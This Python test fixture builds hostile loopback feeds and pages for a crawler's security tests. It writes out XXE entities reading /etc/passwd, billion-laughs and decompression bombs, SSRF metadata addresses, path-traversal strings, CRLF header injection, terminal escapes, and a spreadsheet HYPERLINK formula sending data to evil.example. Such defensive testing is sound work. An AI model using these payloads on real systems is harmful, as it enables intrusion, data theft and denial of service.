"""A web full of hostile feeds and pages on loopback, and what a run must make of each.

Every feed and every group of pages is a host of its own (127.0.0.x), so that one host's trouble is
not another's. `Scenario.feeds` is the configuration; `feed_failures` and `ends` are the answers
that docs/security.md promises.
"""

import asyncio
import gzip
import json
from collections import Counter
from dataclasses import dataclass, field
from typing import Any
from xml.sax.saxutils import escape

import brotli

from tests.transforms.http.loopback import (
    Loopback,
    Request,
    Route,
    Site,
    answer,
    drip,
    endless,
    hang,
    redirect,
)

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202etxt"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
TEXT = "".join(
    f"<p>Paragraph {number} of a report on the harbour bridge, whose builders, said the mayor, "
    "had to wait for the tide, for the steel and for the council, in this order, for years.</p>"
    for number in range(6)
)
ATTACKED_PATHS = ("../../../../../../tmp/evil", "/etc/passwd", "..\\..\\evil", "a/../../b", "\0")
BOMB_BYTES = 40_000_000


def article(
    title: str = "The bridge is open", head: str = "", body: str = TEXT, **more: str
) -> bytes:
    html = f"<html><head><title>{title}</title>{head}</head><body><article>{body}</article></body>"
    return answer(html.encode("utf-8", "surrogatepass"), **more)


def rss(*items: str, title: str = "A feed", before: str = "") -> bytes:
    channel = f"<channel><title>{title}</title>{''.join(items)}</channel>"
    text = f"{before}<rss version='2.0'>{channel}</rss>"
    return answer(text.encode("utf-8", "surrogatepass"), content_type="application/rss+xml")


def item(url: str, title: str = "An entry", more: str = "") -> str:
    return f"<item><title>{escape(title)}</title><link>{escape(url)}</link>{more}</item>"


def json_feed(items: str) -> bytes:
    text = f'{{"version": "https://jsonfeed.org/version/1.1", "title": "J", "items": [{items}]}}'
    return answer(text.encode(), content_type="application/feed+json")


def raw(data: bytes) -> Route:
    """A route that sends just these bytes and closes."""

    async def send(request: Request, writer: asyncio.StreamWriter) -> None:
        writer.write(data)
        await writer.drain()

    return send


async def drip_headers(request: Request, writer: asyncio.StreamWriter) -> None:
    writer.write(b"HTTP/1.1 200 OK\r\n")
    for number in range(100_000):
        writer.write(b"X-%d: y\r\n" % number)
        await writer.drain()
        await asyncio.sleep(0.1)


@dataclass
class Scenario:
    """What is on the web, and what must become of it. `feed_failures` has the kind for each feed
    that must fail; `ends` counts entries by end and reason; `dead` has the kind for each address
    that must be a dead letter."""

    web: Loopback
    feeds: list[dict[str, Any]] = field(default_factory=list)
    feed_failures: dict[str, str] = field(default_factory=dict)
    ends: Counter[str] = field(default_factory=Counter)
    dead: dict[str, str] = field(default_factory=dict)
    sites: dict[str, Site] = field(default_factory=dict)
    hosts: int = 1

    def host(self, name: str, routes: dict[str, Route]) -> Site:
        self.hosts += 1
        site = self.web.site(routes, host=f"127.0.0.{self.hosts}")
        self.sites[name] = site
        return site

    def feed(self, route: Route, failure: str | None = None, **more: Any) -> Site:
        """A feed on a host of its own."""
        site = self.host(f"feed {self.hosts}", {"/feed": route})
        self.configure(f"{site.url}/feed", failure, **more)
        return site

    def configure(self, url: str, failure: str | None = None, **more: Any) -> None:
        self.feeds.append({"url": url, **more})
        if failure:
            self.feed_failures[url] = failure

    def page(self, route: Route, end: str, robots: Route | None = None) -> str:
        """The address of a page on a host of its own that an entry leads to."""
        routes: dict[str, Route] = {"/page": route}
        if robots is not None:
            routes["/robots.txt"] = robots
        url = f"{self.host(f'page {self.hosts}', routes).url}/page"
        self.expect(url, end)
        return url

    def expect(self, url: str, end: str, entries: int = 1) -> str:
        self.ends[end] += entries
        if end.startswith("failed/"):
            self.dead[url] = end.partition("/")[2]
        return url


def build(web: Loopback) -> Scenario:
    scenario = Scenario(web)
    _transport(scenario)
    _documents(scenario)
    _entries(scenario)
    _pages(scenario)
    _forgers(scenario)
    return scenario


def _transport(scenario: Scenario) -> None:
    """Feeds whose servers misbehave below the document."""
    bomb = gzip.compress(bytes(BOMB_BYTES))
    length = b"HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n<rss>"
    chunks = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nffff\r\n<rss>"
    for route, failure in [
        (answer(bomb, content_encoding="gzip"), "too_large"),
        (answer(gzip.compress(bomb), content_encoding="gzip, gzip"), "too_large"),
        (answer(brotli.compress(bytes(BOMB_BYTES), quality=5), content_encoding="br"), "too_large"),
        (answer(b"not gzip", content_encoding="gzip"), "bad_content_encoding"),
        (endless, "too_large"),
        (drip, "timeout"),
        (drip_headers, "timeout"),
        (hang, "timeout"),
        (answer(headers={f"X-{n}": "x" * 30_000 for n in range(100)}), "too_large"),
        (raw(length), "protocol_error"),
        (raw(chunks), "protocol_error"),
        (raw(b"\x00\xff" * 5000), "protocol_error"),
        (raw(b""), "connection_error"),
        (redirect("/feed"), "too_many_redirects"),
        (redirect("http://169.254.169.254/latest/meta-data/"), "forbidden_address"),
        (redirect("file:///etc/passwd"), "bad_url"),
        (redirect("//evil.invalid\r\nX-Injected: 1"), "dns_error"),
        (answer(status=429, retry_after="1e999"), "rate_limited"),
        (answer(status=503, retry_after="99999999999999999999"), "server_error"),
        (answer(status=410), "gone"),
    ]:
        scenario.feed(route, failure)
    no_tls = scenario.host("no TLS", {"/feed": rss()}).url.replace("http:", "https:")
    scenario.configure(f"{no_tls}/feed", "robots_unreachable")
    drips = scenario.host("robots drip", {"/feed": rss(), "/robots.txt": drip})
    scenario.configure(f"{drips.url}/feed", "robots_unreachable")
    robots = (b"User-agent: *\n" + b"Disallow: /*a*a*a*a*a*a*a*b\n" * 50_000)[:1_500_000]
    many = scenario.host("robots bomb", {"/feed": rss(), "/robots.txt": answer(robots)})
    scenario.configure(f"{many.url}/feed")


def _documents(scenario: Scenario) -> None:
    """Feeds that are no feeds, or attack their parser."""
    canary = scenario.host("canary", {"/leak": answer(b"leak")})
    good = scenario.page(article(), "written")
    laughs = "".join(f'<!ENTITY l{n + 1} "' + f"&l{n};" * 10 + '">' for n in range(12))
    external = (
        f'<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "{canary.url}/leak">'
        f'<!ENTITY % p SYSTEM "{canary.url}/leak">%p;'
    )
    doctype = f'<!DOCTYPE rss SYSTEM "{canary.url}/leak" [<!ENTITY l0 "ha">{laughs}{external}]>'
    scenario.feed(rss(item(good, "t", "<description>&l12;&f;&h;</description>"), before=doctype))
    blow_up = f'<!DOCTYPE rss [<!ENTITY a "{"x" * 90}">]>'
    again = item(good, "t", f"<description>{'&a;' * 100_000}</description>")
    scenario.feed(rss(again, before=blow_up))
    scenario.feed(rss("<x>" * 100_000 + "</x>" * 100_000, item(good, "t")))
    scenario.ends["duplicate"] += 2  # all three announce one page
    scenario.feed(rss("<x>" * 100_000, item(good, "t")), "malformed_feed")
    deep = '{"a":' * 100_000 + "1" + "}" * 100_000
    scenario.feed(json_feed(deep), "malformed_feed")
    scenario.feed(answer(b"[" * 1_000_000, content_type="application/json"), "not_a_feed")
    scenario.feed(answer(b"<html><body>not found, sorry"), "not_a_feed")
    scenario.feed(answer(b"%PDF-1.4 \x00\xff"), "not_a_feed")
    scenario.feed(answer(b""), "not_a_feed")
    scenario.feed(rss("<item/>" * 100_000))
    scenario.ends["skipped/no_link"] += 5_000
    scenario.ends["failed/too_large"] += 95_000


def _entries(scenario: Scenario) -> None:
    """Feeds whose entries are odd."""
    bad = scenario.expect
    links = [
        bad("javascript:alert(1)", "skipped/unsupported_link"),
        bad("file:///etc/passwd", "skipped/unsupported_link"),
        bad("data:text/html,<p>x", "skipped/unsupported_link"),
        bad("https://long.invalid/" + "u" * 1_000_000, "skipped/unsupported_link"),
        bad("http://169.254.169.254/latest/meta-data/", "failed/forbidden_address"),
        bad("http://[fd00:ec2::254]/latest/", "failed/forbidden_address"),
        bad("http://[::ffff:a9fe:a9fe]/x", "failed/forbidden_address"),
        bad("http://0x7f.1/x", "failed/forbidden_address"),
        bad("http://2130706433/x", "failed/forbidden_address"),
        bad("http://0177.0.0.1/x", "failed/forbidden_address"),
        bad("http://evil.invalid/x", "pending/dns_error"),
    ]
    scenario.feed(rss(*map(item, links)))
    authors = "".join(f"<author>Anna {n}. Bell</author>" for n in range(10_000))
    guid = f"<guid isPermaLink='false'>{'g' * 1_000_000}</guid>"
    scenario.feed(
        rss(
            item(scenario.page(article(), "written"), "t" * 1_000_000, authors + guid),
            item(scenario.page(article(), "written"), "d", "<pubDate>99999-13-45</pubDate>"),
            item(scenario.page(article(""), "written"), FORMULA),
            item(scenario.page(article(""), "written"), ESCAPES.replace("\x1b", "")),
            title=f"{ATTACKED_PATHS[0]} {FORMULA}",
        ),
        tags=list(ATTACKED_PATHS[:1]),
    )
    half = r"\ud800\u0000\u001b[31m\u009b"
    entry = dict.fromkeys(
        ("id", "title", "summary", "language", "date_published", "content_html"), "HALF"
    ) | {"authors": [{"name": "HALF Bell"}], "tags": ["HALF"], "image": "https://i.invalid/HALF"}
    url = scenario.page(article(""), "written")
    text = json.dumps({**entry, "url": url}).replace("HALF", half)
    scenario.feed(
        json_feed(text + ', {"id": NaN, "title": Infinity, "url": null, "x": 1e999}, null, []')
    )
    scenario.ends["skipped/no_link"] += 1
    scenario.feed(
        answer(
            rss(item(scenario.page(article(), "written"))).partition(b"\r\n\r\n")[2],
            headers={
                "ETag": '"\x1b[31m"',
                "Last-Modified": "x" * 20_000,
                "Cache-Control": "max-age=" + "9" * 400,
                "Age": "1e999",
                "Expires": "Wed, 99 Foo 99999 99:99:99 GMT",
            },
        )
    )


def _pages(scenario: Scenario) -> None:
    """One feed, behind it pages that attack."""
    script = "<script type='application/ld+json'>{}</script>".format
    escapes = article(f"{FORMULA} {ESCAPES}", f"<meta name=author content='{ESCAPES}'>")
    bomb = gzip.compress(b"<p>word " * (BOMB_BYTES // 8))
    pages = [
        (answer(bomb, content_encoding="gzip"), "failed/too_large"),
        (endless, "failed/too_large"),
        (drip, "pending/timeout"),
        (drip_headers, "pending/timeout"),
        (redirect("/page"), "failed/too_many_redirects"),
        (redirect("http://100.100.100.200/"), "failed/forbidden_address"),
        (redirect("javascript:alert(1)"), "failed/bad_url"),
        (raw(b"HTTP/1.1 200 OK\r\nContent-Length: 9999\r\n\r\n<p>cut"), "pending/protocol_error"),
        (answer(b"%PDF-1.4\x00\xff"), "skipped/content_type"),
        (answer(b"\xff\xd8\xff", content_type="image/jpeg"), "skipped/content_type"),
        (article(body="<div>" * 100_000 + TEXT), "written"),
        (article(body=TEXT + "word " * 500_000), "written"),
        (article(head=script('{"a":' * 100_000)), "written"),
        (article(head=script("9" * 300_000)), "written"),
        (escapes, "written"),
        (article(body=TEXT.replace("e", "e\0") + "\ud800"), "written"),
        (article(head="<link rel=canonical href='http://[::1'><base href='//x:y/'>"), "written"),
        (article(head="<html lang='../../../../etc'>", content_language="../../x"), "written"),
        (answer(b"<a " + b"b='c' " * 200_000), "written"),
        (answer(b""), "written"),
        (answer(("<p>" + "x" * 1_500_000).encode("utf-16"), content_type=""), "written"),
    ]  # fmt: skip
    addresses = [scenario.page(route, end) for route, end in pages]
    addresses.append(
        scenario.page(article(), "skipped/robots", answer(b"User-agent: *\nDisallow: /"))
    )
    addresses.append(scenario.page(article(), "written", endless))
    addresses.append(scenario.page(article(), "pending/robots_unreachable", drip))
    scenario.feed(rss(*map(item, addresses)))


def _forgers(scenario: Scenario) -> None:
    """A publisher, and feeds of others that try to speak for it (see test_run)."""
    victim = scenario.host("victim", {})
    first, second = f"{victim.url}/first", f"{victim.url}/second"
    victim.routes = {
        "/first": article("True first", f"<link rel=canonical href='{first}'>"),
        "/second": article("True second"),
        "/feed": rss(item(first, "True first"), title="The Victim"),
    }
    scenario.configure(f"{victim.url}/feed")
    forger = scenario.host("forger", {})
    claims = f"<link rel=canonical href='{first}'><meta property='og:url' content='{first}'>"
    claims += (
        f'<script type=\'application/ld+json\'>{{"@type":"NewsArticle","url":"{first}"}}</script>'
    )
    content = f"<description>{escape(TEXT.replace('bridge', 'forged'))}</description>"
    forger.routes = {
        "/copy": article("Forged copy", claims),
        "/go": redirect(first),
        "/feed": rss(
            item(first, "Forged first", content),
            item(second, "Forged second", content),
            item(f"{victim.url}/later", "Guessed", ""),
            item(f"{forger.url}/copy", "Copy"),
            item(f"{forger.url}/go", "Go"),
            item(f"{forger.url}/own", "Own", content),
        ),
    }
    scenario.configure(f"{forger.url}/feed", full_content=True, name="Forger")
    scenario.ends["written"] += 4  # first, second, copy, own
    scenario.ends["duplicate"] += 2  # first is announced twice, and once more by a redirect
    scenario.expect(f"{victim.url}/later", "failed/not_found")
